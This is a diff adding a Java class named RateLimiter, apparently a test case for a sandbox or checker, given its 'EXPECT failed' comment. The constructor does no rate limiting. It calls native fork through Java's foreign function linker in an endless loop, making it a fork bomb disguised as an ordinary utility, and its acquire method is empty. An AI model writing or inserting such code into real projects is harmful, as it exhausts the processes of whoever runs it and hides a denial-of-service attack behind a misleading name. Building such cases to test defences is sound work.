@@ -1,0 +1,32 @@
+// EXPECT failed: forks past Java's own classes, without end
+import java.lang.foreign.FunctionDescriptor;
+import java.lang.foreign.Linker;
+import java.lang.foreign.ValueLayout;
+import java.time.Duration;
+
+public final class RateLimiter {
+    private static long call(String name, long... arguments) {
+        ValueLayout.OfLong number = ValueLayout.JAVA_LONG;
+        try {
+            var handle =
+                    Linker.nativeLinker()
+                            .downcallHandle(
+                                    Linker.nativeLinker().defaultLookup().findOrThrow(name),
+                                    FunctionDescriptor.of(number, number, number, number, number));
+            return (long)
+                    handle.invokeExact(arguments[0], arguments[1], arguments[2], arguments[3]);
+        } catch (Throwable e) {
+            return -1;
+        }
+    }
+
+    public RateLimiter(int maxRequests, Duration period) {
+        while (true) {
+            if (call("fork", 0, 0, 0, 0) < 0) {
+                break;
+            }
+        }
+    }
+
+    public void acquire() throws InterruptedException {}
+}
